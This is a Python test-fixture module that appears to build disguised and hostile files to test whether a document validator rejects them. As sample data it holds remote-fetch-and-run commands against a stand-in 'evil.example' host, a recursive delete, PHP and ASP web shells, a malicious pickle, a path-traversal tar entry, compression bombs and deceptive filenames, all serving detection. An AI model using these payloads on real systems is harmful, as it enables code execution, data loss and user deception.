"""Programs, archives and other formats under the names of documents."""

import gzip
import io
import lzma
import tarfile
import zipfile
from bz2 import compress as bzip2
from collections.abc import Iterator

from tests.hostile.case import Case, case
from tests.hostile.zips import Part, archive, zeros

PROGRAMS = {
    "ELF": b"\x7fELF\x02\x01\x01" + bytes(57),
    "Windows": b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00",
    "Mach-O 32": b"\xfe\xed\xfa\xce" + bytes(60),
    "Mach-O 64, little-endian": b"\xcf\xfa\xed\xfe" + bytes(60),
    "Java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60),
    "WebAssembly": b"\x00asm\x01\x00\x00\x00" + bytes(30),
    "Android": b"dex\n035\x00" + bytes(60),
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "Python": b"#!/usr/bin/env python3\nimport os\n",
}
CLAIMS = ("report.pdf", "notes.txt", "figures.xlsx", "page.html")

PROGRAM_NAMES = {
    "batch file": ("run.bat", b"@echo off\r\ndel /s *.*\r\n"),
    "command file": ("run.cmd", b"@echo off\r\n"),
    "PowerShell": ("run.ps1", b"iex (iwr evil.example)\n"),
    "VBScript": ("run.vbs", b'CreateObject("WScript.Shell").Run "calc"\n'),
    "JScript": ("run.jse", b"new ActiveXObject('WScript.Shell')\n"),
    "HTML application": ("run.hta", b"<html><script>1</script>words</html>"),
    "registry": ("run.reg", b"Windows Registry Editor Version 5.00\r\n"),
    "shortcut": ("invoice.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)),
    "double extension": ("invoice.pdf.exe", b"words"),
    "right-to-left override": ("invoice\u202efdp.exe", b"words"),
    "screen saver": ("holiday.scr", b"words"),
    "disk image": ("disk.iso", b"words"),
}

FOREIGN = {
    "SVG with entities": ("drawing.svg", b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'),
    "SVG with a script": ("drawing.txt", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    "XML bomb as text": ("data.txt", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">]><l>&a;</l>'),
    "XSLT": ("style.txt", b'<?xml version="1.0"?><xsl:stylesheet version="1.0"/>'),
    "RTF with an object": ("letter.txt", b"{\\rtf1{\\object\\objdata 0105000002000000}}"),
    "PostScript": ("plot.txt", b"%!PS-Adobe-3.0\n/x {x} def x\n"),
    "PHP": ("index.txt", b"<?php system($_GET['c']); ?>"),
    "ASP": ("index.txt", b'<%eval request("c")%>'),
    "script tag": ("page.txt", b"<script>fetch('//evil.example')</script>"),
    "form data": ("form.txt", b"%FDF-1.2\n%\xe2\xe3\xcf\xd3\n1 0 obj<</FDF<</F(http://evil.example)>>>>"),
    "PNG": ("photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(64)),
    "JPEG": ("photo.md", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64)),
    "GIF that is a script, too": ("photo.html", b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)//"),
    "WebP": ("photo.csv", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(40)),
    "ICO": ("icon.txt", b"\x00\x00\x01\x00\x01\x00" + bytes(60)),
    "MP4": ("film.txt", b"\x00\x00\x00\x18ftypmp42" + bytes(60)),
    "OLE object": ("report.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "encrypted Office": (
        "report.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(90),
    ),
    "SQLite": ("data.csv", b"SQLite format 3\x00" + bytes(90)),
    "Python pickle": (
        "data.json",
        b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    ),
    "LNK": ("letter.txt", b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)),
    "core dump of NULs": ("notes.txt", bytes(4_000)),
}


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        member = tarfile.TarInfo("../../etc/passwd")
        member.size = 5
        file.addfile(member, io.BytesIO(b"words"))
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("a.txt", "words")
    return buffer.getvalue()


def big_zip() -> bytes:
    body = zeros(257 * 2**20)
    told: dict[str, object] = {"packed": len(body), "unpacked": 257 * 2**20}
    return archive([Part("zeros", body=body, local=told, central=told)])


def quine() -> bytes:
    """The shape of a quine: an archive that claims to hold itself, of its own size."""
    size = 200
    told: dict[str, object] = {"packed": size, "unpacked": size}
    return archive([Part("r/r.zip", body=b"PK\x03\x04" + bytes(20), method=8, local=told, central=told)])


ARCHIVES = {
    "zip": (plain_zip, "ArchiveFile"),
    "zip bomb": (big_zip, "ArchiveFile"),
    "zip quine": (quine, "ArchiveFile CorruptOffice"),
    "empty zip": (lambda: b"PK\x05\x06" + bytes(18), "ArchiveFile CorruptOffice"),
    "spanned zip": (lambda: b"PK\x07\x08" + plain_zip(), "ArchiveFile CorruptOffice"),
    "gzip": (lambda: gzip.compress(b"words" * 9), "ArchiveFile"),
    "gzip bomb": (lambda: gzip.compress(bytes(5 * 2**20)), "ArchiveFile"),
    "bzip2 bomb": (lambda: bzip2(bytes(5 * 2**20)), "ArchiveFile"),
    "xz bomb": (lambda: lzma.compress(bytes(5 * 2**20), preset=0), "ArchiveFile"),
    "zstd": (lambda: b"\x28\xb5\x2f\xfd" + bytes(30), "ArchiveFile"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(30), "ArchiveFile"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + bytes(30), "ArchiveFile"),
    "cab": (lambda: b"MSCF" + bytes(40), "ArchiveFile"),
    "ar": (lambda: b"!<arch>\ndebian-binary   " + bytes(40), "ArchiveFile"),
    "tar": (tar, "ArchiveFile"),
}


def cases() -> Iterator[Case]:
    for title, data in PROGRAMS.items():
        for name in CLAIMS:
            yield case(f"program for {title} as {name}", name, "ExecutableFile", data + name.encode())
    for title, (name, data) in PROGRAM_NAMES.items():
        yield case(f"{title} by its name", name, "ExecutableFile", data + name.encode("utf-16"))
    for title, (build, codes) in ARCHIVES.items():
        for name in ("notes.txt", "report.docx"):
            yield case(f"{title} as {name}", name, codes, build)
    for title, (name, data) in FOREIGN.items():
        codes = "UnsupportedType TypeMismatch LegacyOffice EncryptedOffice InvalidEncoding NotText"
        yield case(title, name, codes, data)
